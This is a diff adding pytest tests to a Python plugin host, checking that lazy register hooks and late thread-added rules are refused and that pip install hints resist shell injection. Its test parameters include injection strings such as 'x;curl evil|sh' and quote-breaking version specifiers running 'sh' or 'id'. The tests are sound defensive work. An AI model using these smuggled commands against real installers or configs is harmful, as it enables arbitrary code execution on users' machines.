@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import sys
 import threading
 import time
@@ -11,6 +12,7 @@ from typing import Any
 
 import pytest
 
+from toolhost.config import load_config
 from toolhost.config.model import HostConfig, Origin, PluginRequirement, ServerConfig
 from toolhost.errors import ConfigError, PluginError
 from toolhost.plugins import PluginConfigError, activate
@@ -298,3 +300,88 @@ def test_a_reload_thread_leaves_the_sessions_stdout_alone(
     assert done and done[0].plugins[0].provides["tools"] == ["mcp__greet__hello"]
     out, _err = capfd.readouterr()
     assert "during" in out
+
+
+@pytest.mark.parametrize("register", [
+    "async def register(registry):\n    registry.add_rules(deny=['Bash'])\n",
+    "def register(registry):\n    registry.add_rules(deny=['Bash'])\n    yield\n",
+    "async def register(registry):\n    registry.add_rules(deny=['Bash'])\n    yield\n",
+], ids=["async", "generator", "async-generator"])
+def test_a_register_hook_whose_body_never_runs_is_refused(make_plugin: MakePlugin,
+                                                          register: str) -> None:
+    """Calling an ``async def`` or a generator ``register`` runs none of its body: the
+    plugin was enabled with nothing registered, its deny rule silently missing."""
+    make_plugin("toolhost-lazy", modules={"lazy_plugin": register})
+    with pytest.raises(PluginConfigError) as info:
+        activate([req("toolhost-lazy")])
+    (problem,) = info.value.problems
+    assert problem.line == 4 and "plugin 'toolhost-lazy' 1.0.0 failed while registering" in \
+        problem.message
+    assert "register() of 'lazy_plugin' is a" in problem.message
+    assert "none of its body ran (make it a plain def)" in problem.message
+
+
+def test_a_thread_the_hook_left_behind_adds_nothing_later(make_plugin: MakePlugin) -> None:
+    """What a config gets is what ``register`` added while it ran: a rule or tool added
+    afterwards from a thread would reach one load and not another."""
+    late = GREET + """
+    import threading
+    failures = []
+    go = threading.Event()
+
+    def later(registry):
+        go.wait(10)
+        try:
+            registry.add_rules(allow=["mcp__greet__hello"])
+        except Exception as exc:
+            failures.append(str(exc))
+
+    def register(registry: Registry) -> None:
+        registry.add_server("greet", description="Greetings")
+        registry.add_tool(greet, server="greet")
+        worker = threading.Thread(target=later, args=(registry,))
+        worker.start()
+        registry.worker = worker
+"""
+    make_plugin("toolhost-late", modules={"late_plugin": late})
+    plugins = activate([req("toolhost-late")])
+    (reg,) = plugins.registries
+    module = sys.modules["late_plugin"]
+    module.go.set()
+    reg.worker.join(10)  # type: ignore[attr-defined]
+    assert reg.rules == []
+    assert module.failures == ["plugin 'toolhost-late': add_rules() after register() "
+                               "returned; everything is added while register(registry) runs"]
+
+
+@pytest.mark.parametrize("written", [
+    "\"toolhost-q===1'|sh|'\"",  # `===` takes any text but a space, ';' or ')'
+    "{name: toolhost-q, version: \"===1'`id`'\"}",
+])
+def test_a_pip_hint_pasted_into_a_shell_installs_what_it_says(tmp_path: Path,
+                                                              written: str) -> None:
+    """A fragment of a team's repository writes the requirement; the hint is pasted."""
+    import shlex
+
+    config = tmp_path / "toolhost.yaml"
+    config.write_text(f"toolhost: 1\nplugins: [{written}]\n")
+    with pytest.raises(ConfigError) as info:
+        load_config(config, layers=False)
+    (problem,) = info.value.problems
+    assert problem.message == "plugin 'toolhost-q' is not installed"
+    words = shlex.split(problem.hint)
+    assert words[:2] == ["pip", "install"] and len(words) == 3, problem.hint
+    assert words[2].startswith("toolhost-q===1'")
+
+
+@pytest.mark.parametrize("name", ["x;curl evil|sh", "a b", "x'y", "-e.", "x-"])
+def test_a_plugin_name_that_is_no_distribution_name_is_refused_at_its_line(
+        tmp_path: Path, name: str) -> None:
+    """The mapping form took any string, which then went into `pip install NAME`."""
+    config = tmp_path / "toolhost.yaml"
+    config.write_text(f"toolhost: 1\nplugins:\n  - name: {json.dumps(name)}\n")
+    with pytest.raises(ConfigError) as info:
+        load_config(config, layers=False)
+    (problem,) = info.value.problems
+    assert (problem.line, problem.key_path) == (3, "plugins[0].name")
+    assert problem.message == f"invalid plugin name {name!r}" and "pip" not in problem.hint
